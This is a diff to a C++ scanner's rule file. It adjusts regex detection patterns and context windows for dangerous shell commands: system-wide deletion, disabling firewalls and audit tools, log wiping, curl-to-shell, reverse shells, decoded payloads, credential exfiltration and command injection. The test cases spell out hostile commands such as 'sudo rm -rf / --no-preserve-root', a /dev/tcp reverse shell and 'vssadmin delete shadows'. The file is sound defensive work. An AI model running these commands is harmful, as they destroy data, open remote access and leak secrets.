@@ -19,7 +19,7 @@ void add_destruction(std::vector<Rule>& rules) {
            R"((?<![\w-])rm (?:-[\w-]{1,24} ){0,3}(?:-[a-z]{0,6}r[a-z]{0,6}|--recursive)(?: -[\w-]{1,24}){0,3} ["']?(?:/(?:(?:etc|usr|bin|boot|lib|var|home|root|sys|opt)/?)?|~/?|\$HOME/?|\$\{HOME\}/?|/\*)\*?["']?(?=[\s;&|"'`)]|$))",
        .anchors = {"rm -", "rm\t-", "rm  -"},
        .before = 1,
-       .after = 120,
+       .after = 202,
        .hits = {{"sudo rm -rf / --no-preserve-root", "the whole disk"},
                 {"rm -rf ~", "somebody's whole home"},
                 {"cd x; rm -r -f /etc", "the configuration of the machine"}},
@@ -96,6 +96,7 @@ void add_destruction(std::vector<Rule>& rules) {
            R"((?<![\w-])(?:setenforce 0|iptables (?:-F|--flush)|nft flush ruleset|ufw disable|systemctl (?:stop|disable|mask)(?: --now)? (?:auditd|firewalld|ufw|apparmor|fail2ban|falcon-sensor|clamav\S{0,16})|Set-MpPreference [^\n]{0,60}Disable\w{4,40} (?:\$?true|1)|netsh advfirewall [^\n]{0,40}state off|csrutil disable|spctl --master-disable|auditctl -e ?0))",
        .anchors = {"setenforce", "iptables", "nft flush", "ufw disable", "systemctl", "mppreference",
                    "advfirewall", "csrutil", "spctl", "auditctl"},
+       .before = 9,
        .after = 130,
        .hits = {{"sudo setenforce 0", "SELinux"}, {"systemctl disable --now auditd", "the audit log"}},
        .misses = {{"systemctl restart nginx", "a service"}, {"iptables -L", "a list"}}});
@@ -109,7 +110,7 @@ void add_destruction(std::vector<Rule>& rules) {
            R"((?<![\w-])(?:format [c-z]: ?/|(?:del|erase|rd|rmdir)(?: /[a-z]){1,4} ["']?[c-z]:\\(?:windows|users|\*)?|vssadmin(?:\.exe)? delete shadows|wmic shadowcopy delete|bcdedit [^\n]{0,60}recoveryenabled no|cipher /w:[c-z]|Remove-Item [^\n]{0,60}[c-z]:\\(?:windows|users)?\\?\*?["']? [^\n]{0,20}-Recurse))",
        .anchors = {"format ", "del ", "erase ", "rd ", "rmdir ", "vssadmin", "shadowcopy", "bcdedit",
                    "cipher /w", "remove-item"},
-       .before = 6,
+       .before = 8,
        .after = 150,
        .hits = {{"vssadmin delete shadows /all /quiet", "copies for recovery"},
                 {"del /s /q C:\\*", "a whole disk"}},
@@ -122,7 +123,7 @@ void add_destruction(std::vector<Rule>& rules) {
        .pattern =
            R"((?<![\w-])(?:history -c\b|unset HISTFILE|export HIST(?:SIZE|FILESIZE)=0|(?:rm|shred|truncate)(?: -\S{1,8}){0,3} \S{0,40}(?:\.bash_history|\.zsh_history|/var/log/(?:auth|secure|syslog|wtmp|lastlog|audit)\S{0,20})|> ?\S{0,40}(?:\.bash_history|/var/log/(?:auth\.log|wtmp|secure))|wevtutil(?:\.exe)? cl \w{2,24}|Clear-EventLog))",
        .anchors = {"history", "histfile", "histsize", "/var/log/", "wevtutil", "clear-eventlog"},
-       .before = 70,
+       .before = 97,
        .after = 60,
        .hits = {{"history -c && exit", "the history of commands"},
                 {"> /var/log/auth.log", "the log of sign-ins"}},
@@ -138,7 +139,7 @@ void add_take_over(std::vector<Rule>& rules) {
        .pattern =
            R"((?<![\w-])(?:curl|wget|fetch|lwp-download)\b[^\n|;]{4,300}\| ?(?:sudo(?: -\w{1,4}){0,2} |env (?:\S{1,40} ){0,3})?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k|a)?sh|python[\d.]{0,4}|perl|ruby|node|php)\b)",
        .anchors = {"curl", "wget", "fetch", "lwp-download"},
-       .after = 360,
+       .after = 463,
        .hits = {{"curl -fsSL https://get.example.com | sudo bash", "run unseen"},
                 {"wget -qO- http://198.51.100.7/x|python3 -", "by an interpreter"}},
        .misses = {{"curl https://api.example.com/x | jq .", "a filter"},
@@ -151,7 +152,7 @@ void add_take_over(std::vector<Rule>& rules) {
        .pattern =
            R"((?:\b(?:ba|z|da|k)?sh (?:-c ["']?\$\(|<\( ?)|\beval ["']?\$\(|\bsource <\(|\bpython[\d.]{0,4} -c ["']?\$\() ?(?:curl|wget) [^\n]{4,300})",
        .anchors = {"curl", "wget"},
-       .before = 24,
+       .before = 27,
        .after = 320,
        .hits = {{"sh -c \"$(curl -fsSL https://example.com/i.sh)\"", "substitution"},
                 {"bash <(wget -qO- http://x.example/i)", "process substitution"}},
@@ -163,7 +164,7 @@ void add_take_over(std::vector<Rule>& rules) {
        .severity = Severity::critical,
        .confidence = 0.95,
        .pattern =
-           R"((?:/dev/(?:tcp|udp)/[\w.{}$:-]{1,64}/[\w${}]{1,12}|\b(?:nc|ncat|netcat)\b[^\n]{0,60} -(?:[a-z]{0,4}[ec]|-exec|-sh-exec)[ =]?["']?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell)\b|\bmkfifo [^\n]{1,120}\| ?(?:nc|ncat|netcat|telnet|openssl)\b|\bsocat\b[^\n]{0,120}\bexec:["']?\S{0,20}(?:ba|z)?sh|\btelnet [^\n]{1,80}\| ?(?:/bin/)?(?:ba)?sh \| ?telnet))",
+           R"((?:/dev/(?:tcp|udp)/[\w.{}$:-]{1,64}/[\w${}]{1,12}|\b(?:nc(?: [^\n]{0,60})?|(?:ncat|netcat)\b[^\n]{0,60}) -(?:[a-z]{0,4}[ec]|-exec|-sh-exec)[ =]?["']?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell)\b|\bmkfifo [^\n]{1,120}\| ?(?:nc|ncat|netcat|telnet|openssl)\b|\bsocat\b[^\n]{0,120}\bexec:["']?\S{0,20}(?:ba|z)?sh|\btelnet [^\n]{1,80}\| ?(?:/bin/)?(?:ba)?sh \| ?telnet))",
        .anchors = {"/dev/tcp/", "/dev/udp/", "nc ", "ncat", "netcat", "mkfifo", "socat", "telnet"},
        .after = 220,
        .hits = {{"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "bash"},
@@ -195,7 +196,7 @@ void add_take_over(std::vector<Rule>& rules) {
        .pattern =
            R"((?:\b(?:base64 (?:-d|--decode|-D)|base32 -d|xxd -r(?: -p)?|openssl (?:enc )?(?:-d )?-?base64 -d)[^\n|]{0,80}\| ?(?:sudo )?(?:(?:ba|z|da|k)?sh|python[\d.]{0,4}|perl|node)\b|\bpowershell(?:\.exe)?\b[^\n]{0,120} -e(?:c|nc|ncodedcommand)? ["']?[a-z0-9+/=]{24,4000}|\b(?:eval|exec)\(? ?(?:base64\.b64decode|atob|gzinflate|base64_decode|bytes\.fromhex)\())",
        .anchors = {"base64", "base32", "xxd -r", "powershell", "atob(", "gzinflate", "bytes.fromhex"},
-       .before = 12,
+       .before = 25,
        .after = 4200,
        .hits = {{"echo aGk= | base64 -d | bash", "decoded and run"},
                 {"exec(base64.b64decode(x))", "in Python"}},
@@ -241,7 +242,7 @@ void add_take_over(std::vector<Rule>& rules) {
        .severity = Severity::critical,
        .confidence = 0.93,
        .pattern =
-           R"((?:\b(?:curl|wget|nc|ncat|scp|rsync|ftp)\b[^\n]{0,160}(?:~|\$HOME|/root|/home/[\w.-]{1,32}|/etc)/(?:\.ssh/id_|\.aws/|\.gnupg|\.netrc|\.kube/config|\.git-credentials|\.bash_history|shadow|passwd)|(?:\b(?:env|printenv|history)|\b(?:cat|tar|base64|gzip)\b[^\n|]{0,100}(?:\.ssh/|\.aws/|\.gnupg|\.env\b|\.netrc|/etc/shadow|/etc/passwd|\.kube/|_history)[^\n|]{0,60}) ?\| ?(?:(?:base64|gzip|xxd)[^\n|]{0,12}\| ?)?(?:curl|wget|nc|ncat) [^\n]{0,200}))",
+           R"((?:\b(?:nc |(?:curl|wget|ncat|scp|rsync|ftp)\b)[^\n]{0,160}(?:~|\$HOME|/root|/home/[\w.-]{1,32}|/etc)/(?:\.ssh/id_|\.aws/|\.gnupg|\.netrc|\.kube/config|\.git-credentials|\.bash_history|shadow|passwd)|(?:\b(?:env|printenv|history)|\b(?:cat|tar|base64|gzip)\b[^\n|]{0,100}(?:\.ssh/|\.aws/|\.gnupg|\.env\b|\.netrc|/etc/shadow|/etc/passwd|\.kube/|_history)[^\n|]{0,60}) ?\| ?(?:(?:base64|gzip|xxd)[^\n|]{0,12}\| ?)?(?:curl|wget|nc|ncat) [^\n]{0,200}))",
        .anchors = {"curl", "wget", "nc ", "ncat", "scp", "rsync", "ftp"},
        .before = 300,
        .after = 330,
@@ -278,7 +279,7 @@ void add_take_over(std::vector<Rule>& rules) {
            R"((?:[\w./-]["']? ?(?:;|\|\||&&|\||%0a) ?|\$\( ?|\$\{IFS\}|[\w./=-]`)(?:(?:cat|head|less|more|type) (?:/etc/(?:passwd|shadow|hosts)|/proc/self/\w{3,8})|(?:id|whoami|uname -a|ifconfig|ipconfig)(?: ?(?:[;#|&)`]|$|\n))|(?:nc|ncat) -\w{1,4} |sleep \d{1,3}(?: ?#|$)|ping -[cn] ?\d{1,3} \S))",
        .anchors = {"/etc/", "/proc/self", "whoami", "id", "uname -a", "config", "nc -", "ncat -", "sleep ",
                    "ping -"},
-       .before = 16,
+       .before = 21,
        .after = 40,
        .hits = {{"report.pdf; cat /etc/passwd", "behind a file name"},
                 {"x$(whoami)", "substitution"},
